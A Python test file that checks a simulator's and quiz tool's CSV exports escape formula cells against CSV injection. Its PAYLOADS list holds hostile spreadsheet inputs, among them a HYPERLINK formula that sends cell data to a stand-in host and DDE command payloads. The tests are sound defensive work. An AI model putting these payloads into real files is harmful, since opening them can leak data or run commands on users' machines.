"""Hostile input, output side: every CSV the project writes keeps formula cells as text (OWASP
CSV injection), through the one writer in pim_sim.io.csv_safe."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from pim_sim.cli import app
from pim_sim.io import csv_safe
from quizzes import export
from quizzes.bank import load_bank
from quizzes.classroom import (
    SetSpec,
    answer_key_csv,
    answer_sheet_template,
    build_set,
    grade_class,
    papers,
    papers_csv,
)

ROOT = Path(__file__).resolve().parents[2]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    "\uff1d1+1",  # full-width equals sign
    "x;=1+1",  # a cell a ';'-separated spreadsheet would split
]


def cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def assert_all_safe(text: str) -> None:
    """Every text cell is quoted (an unquoted cell must read as a number) and none starts a formula."""
    read = [c for row in csv.reader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC) for c in row]
    bad = [c for c in read if isinstance(c, str) and not csv_safe.is_safe(c)]
    assert not bad, bad[:3]


# ---------------------------------------------------------------- the writer itself
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_is_written_as_text_and_reads_back_as_typed(payload):
    text = csv_safe.rows_csv([[payload, 1]], ["cell", "n"])
    assert_all_safe(text)
    written = cells(text)[2]
    assert csv_safe.restore(written) == payload
    assert written == payload or written == "'" + payload  # a formula is prefixed with one quote, nothing else changes


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_frame_with_a_formula_in_cells_and_column_names_is_written_as_text(payload):
    frame = pd.DataFrame({payload: [payload, "ok"], "n": [-1, 2], "cat": pd.Categorical([payload, payload])})
    text = csv_safe.frame_csv(frame)
    assert_all_safe(text)
    back = pd.read_csv(io.StringIO(text))
    assert list(back["n"]) == [-1, 2]  # numbers stay numbers, a negative one included


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=40))
@example("'\n").via("a quote before a formula sign, which restore took for the mark")
@example("''=1+1").via("quotes before a formula")
def test_restore_undoes_neutralise_and_the_result_is_always_safe(text):
    assert csv_safe.restore(csv_safe.neutralise(text)) == text
    assert csv_safe.is_safe(csv_safe.neutralise(text))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(st.text(max_size=20), min_size=1, max_size=4), max_size=5))
def test_any_rows_read_back_as_written_and_safe(rows):
    text = csv_safe.rows_csv(rows)
    back = list(csv.reader(io.StringIO(text, newline="")))
    assert [[csv_safe.restore(c) for c in r] for r in back] == [[c for c in r] for r in rows if True]
    assert_all_safe(text)


def test_no_module_writes_csv_but_the_safe_writer():
    """Every CSV export goes through pim_sim.io.csv_safe: no other DataFrame.to_csv or csv.writer."""
    offenders = []
    for folder in ("pim_sim", "quizzes", "ui"):
        for path in (ROOT / folder).rglob("*.py"):
            if path.name == "csv_safe.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                module = node.value.id if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) else ""
                if isinstance(node, ast.Attribute) and ((node.attr == "to_csv" and module != "export")
                                                        or (node.attr in ("writer", "DictWriter") and module == "csv")):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    for path in [ROOT / "app.py"]:
        assert ".to_csv(" not in path.read_text(encoding="utf-8")
    assert offenders == []


# ---------------------------------------------------------------- the exports
@pytest.fixture(scope="module")
def evil_run(tmp_path_factory):
    """pim-sim run on a scenario whose justifications and title are formulas: audit.csv, requests.csv ..."""
    text = (ROOT / "scenarios" / "jit-basics.yaml").read_text(encoding="utf-8")
    text = text.replace("Review the weekend's sign-in alerts", json.dumps(PAYLOADS[0]).replace("\\\"", '\\"'), 1)
    text = text.replace("justification: A long day of incident response",
                        f"justification: {json.dumps(PAYLOADS[1])}", 1)
    text = text.replace("title: Just-in-time basics", f"title: {json.dumps(PAYLOADS[3])}", 1)
    folder = tmp_path_factory.mktemp("evil")
    (folder / "evil.yaml").write_text(text, encoding="utf-8")
    result = CliRunner().invoke(app, ["run", str(folder / "evil.yaml"), "--out", str(folder / "out")])
    assert result.exit_code == 0, result.output
    return folder


@pytest.mark.parametrize("table", ["audit", "requests", "intervals", "effective_access", "refusals", "metrics",
                                   "summary"])
def test_every_table_of_pim_sim_run_is_safe(evil_run, table):
    assert_all_safe((evil_run / "out" / f"{table}.csv").read_text(encoding="utf-8"))


def test_the_formula_justifications_reach_audit_and_requests_as_text(evil_run):
    for table in ("audit", "requests"):
        found = cells((evil_run / "out" / f"{table}.csv").read_text(encoding="utf-8"))
        assert "'" + PAYLOADS[0] in found and PAYLOADS[0] not in found, table


def test_sweep_out_is_safe(evil_run):
    out = evil_run / "sweep.csv"
    text = (ROOT / "scenarios" / "approval-expiry.yaml").read_text(encoding="utf-8")
    text = text.replace("title: Approval and the 24-hour expiry", f"title: {json.dumps(PAYLOADS[2])}", 1)
    (evil_run / "sweep.yaml").write_text(text, encoding="utf-8")
    result = CliRunner().invoke(app, ["sweep", str(evil_run / "sweep.yaml"), "--set", "settings[0].require_approval",
                                      "--values", "true,false", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert_all_safe(out.read_text(encoding="utf-8"))


STUDENTS = [p for p in PAYLOADS if p == p.strip()]  # a roster strips the spaces around names


@pytest.fixture(scope="module")
def evil_class():
    bank = load_bank()
    spec = SetSpec("SC-300", 3, seed=5, generated=1, title=PAYLOADS[0])
    return papers(build_set(bank, spec), bank.outlines["SC-300"], STUDENTS)


def test_answer_key_csv_is_safe_and_names_the_students_as_typed(evil_class):
    text = answer_key_csv(evil_class)
    assert_all_safe(text)
    assert {csv_safe.restore(r[0]) for r in list(csv.reader(io.StringIO(text)))[1:]} == set(STUDENTS)


def test_answer_sheet_is_safe_and_grades_back_to_the_same_students(evil_class):
    sheet = answer_sheet_template(evil_class)
    assert_all_safe(sheet)
    rows = list(csv.reader(io.StringIO(sheet)))
    buf = io.StringIO()  # filled in and saved by a spreadsheet: the cells as they were read, quote marks kept
    csv.writer(buf).writerows([rows[0]] + [[s, q, "a"] for s, q, _ in rows[1:]])
    results = grade_class(evil_class, buf.getvalue())
    assert not [i for i in results.issues if i.field == "student"]  # every neutralised name found its paper
    assert set(results.grades()["student"]) == set(STUDENTS)


def test_every_paper_and_the_question_csv_are_safe(evil_class):
    for text in papers_csv(evil_class).values():
        assert_all_safe(text)
    qs = [it.question.model_copy(update={"stem": PAYLOADS[1], "explanation": PAYLOADS[4]}) for it in evil_class[0].items]
    assert_all_safe(export.to_csv(qs))
